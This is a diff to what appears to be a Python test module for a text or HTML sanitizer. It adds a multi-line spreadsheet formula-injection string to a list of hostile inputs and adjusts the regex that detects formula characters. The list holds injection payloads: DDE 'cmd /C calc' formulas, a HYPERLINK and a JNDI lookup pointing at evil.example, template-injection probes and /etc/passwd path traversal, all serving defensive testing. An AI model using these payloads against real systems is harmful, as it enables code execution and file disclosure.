@@ -32,6 +32,7 @@ HOSTILE = (
     "line\u2028separator\u2029paragraph",
     "=cmd|' /C calc'!A0",
     '\t=HYPERLINK("http://evil.example","x");@SUM(1+1)*cmd|\' /C calc\'!A0',
+    "x\n=cmd|' /C calc'!A0\n+HYPERLINK(1)",
     "$\\frac{1}{2$ \\$x\\$ $$ $\\undefined{$ ${jndi:ldap://evil.example}",
     "{{7*7}} {% include '/etc/passwd' %} {# x #} ${run.models} %s %(x)s {0.__class__}",
     "../../../etc/passwd\\..\\C:\\con /dev/null ~root file:///etc/passwd",
@@ -44,7 +45,7 @@ EVERY = (*HOSTILE, SURROGATES)
 
 OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
 BARE_LINK = re.compile(r"(?:(?:https?|ftp)://|www\.)\w")
-FORMULA = re.compile(r"[=+\-@\t\r\n＝＋－＠]")
+FORMULA = re.compile(r"\n*[=+\-@\t\r＝＋－＠]")
 
 
 class _Elements(HTMLParser):
